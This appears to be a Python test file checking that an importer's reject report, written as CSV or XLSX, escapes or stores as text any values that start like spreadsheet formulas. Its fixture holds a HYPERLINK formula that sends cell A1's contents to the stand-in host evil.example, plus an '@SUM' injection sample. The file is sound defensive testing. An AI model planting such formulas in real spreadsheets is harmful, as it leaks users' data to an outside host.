"""The reject report never turns a value from the clerk's file into a formula (no database)."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from importers.report import write_report
from importers.rules import Problem

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
PROBLEMS = [
    Problem(2, "名称", HOSTILE, "必填"),
    Problem(3, "纬度", "-24.2", "点位不在中国境内"),
    Problem(4, "备注", "@SUM(A1:A9)", "必填"),
]


def test_csv_report_cells_do_not_start_like_formulas(tmp_path: Path) -> None:
    path = write_report(tmp_path / "rejects.csv", PROBLEMS)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [r[2] for r in rows[1:]] == ["'" + HOSTILE, "-24.2", "'@SUM(A1:A9)"]
    assert rows[1][3] == "必填"


def test_xlsx_report_keeps_values_as_text(tmp_path: Path) -> None:
    path = write_report(tmp_path / "rejects.xlsx", PROBLEMS)
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=3) for r in (2, 3, 4)]
    assert [c.value for c in cells] == [HOSTILE, "-24.2", "@SUM(A1:A9)"]
    assert [c.data_type for c in cells] == ["s", "s", "s"]
